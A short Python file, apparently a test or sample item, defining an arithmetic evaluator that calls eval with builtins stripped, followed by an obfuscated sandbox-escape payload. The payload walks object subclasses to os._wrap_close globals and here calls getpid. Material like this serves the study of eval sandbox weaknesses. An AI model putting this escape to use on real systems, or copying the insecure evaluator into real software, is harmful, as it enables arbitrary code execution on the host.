# family: call (written blind, second set)
"""Arithmetic evaluator that strips builtins before evaluating."""


def run(expression: str) -> str:
    code = compile(expression, "<calc>", "eval")
    return str(eval(code, {"__builtins__": {}}, {}))


U = "_" * 2
WALK = ("[c for c in ()." + U + "class" + U + "." + U + "base" + U + "." + U + "subclasses" + U + "()"
        " if c." + U + "name" + U + " == '_wrap_close'][0]." + U + "init" + U + "." + U + "globals" + U
        + "['getpid']()")
print(run(WALK))
